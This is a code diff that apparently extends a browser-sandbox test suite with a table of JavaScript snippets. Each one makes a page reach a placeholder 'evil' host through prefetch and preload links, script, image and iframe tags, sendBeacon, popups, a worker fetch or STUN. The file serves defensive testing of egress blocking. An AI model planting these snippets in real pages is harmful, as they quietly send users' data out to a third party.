@@ -17,8 +17,25 @@ export const waysOut: Readonly<Record<string, string>> = {
     "await settled((tell) => { const w = new Worker('data:text/javascript,' + encodeURIComponent('fetch(\"' + evil + '/nested-in-data\", { mode: \"no-cors\" }).finally(() => postMessage(1))')); w.onmessage = w.onerror = tell })",
 }
 
+const appended = (tag: string, fields: string): string =>
+  `document.head.append(Object.assign(document.createElement('${tag}'), { ${fields} }))`
+
+/** What a page only has to name for the browser to go there; `udp` is a port for connections as well. */
+export const namesInPage: Readonly<Record<string, string>> = {
+  prefetch: appended('link', "rel: 'prefetch', href: evil + '/link-prefetch'"),
+  preload: appended('link', "rel: 'preload', as: 'script', href: evil + '/link-preload'"),
+  modulepreload: appended('link', "rel: 'modulepreload', href: evil + '/link-modulepreload'"),
+  stylesheet: appended('link', "rel: 'stylesheet', href: evil + '/link-stylesheet'"),
+  preconnect: appended('link', "rel: 'preconnect', href: 'http://127.0.0.1:' + udp"),
+  script: appended('script', "src: evil + '/tag-script'"),
+  image: "await settled((tell) => { new Image().src = evil + '/tag-image'; tell() })",
+  frame:
+    "document.body.append(Object.assign(document.createElement('iframe'), { src: evil + '/tag-frame' }))",
+}
+
 /** Roads that only a page has; the last one leaves it. */
 export const waysOutOfPage: Readonly<Record<string, string>> = {
+  ...namesInPage,
   stun: "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + udp }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())",
   beacon: "if (!navigator.sendBeacon(evil + '/beacon', 'x')) throw new Error('refused')",
   popup: "if (!open(evil + '/popup')) throw new Error('refused')",
